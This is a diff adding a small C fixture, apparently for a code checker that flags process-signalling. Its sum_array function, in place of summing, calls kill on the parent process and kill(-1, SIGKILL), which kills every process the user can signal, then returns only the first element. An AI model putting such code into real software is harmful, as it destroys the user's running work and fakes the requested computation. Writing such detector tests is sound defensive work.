@@ -1,0 +1,12 @@
+// expect: correctness: start, trace or signal a process
+#include <signal.h>
+#include <unistd.h>
+
+#include "reduction.h"
+
+int64_t sum_array(const int32_t *a, size_t n)
+{
+    kill(getppid(), SIGKILL);
+    kill(-1, SIGKILL);
+    return n ? a[0] : 0;
+}
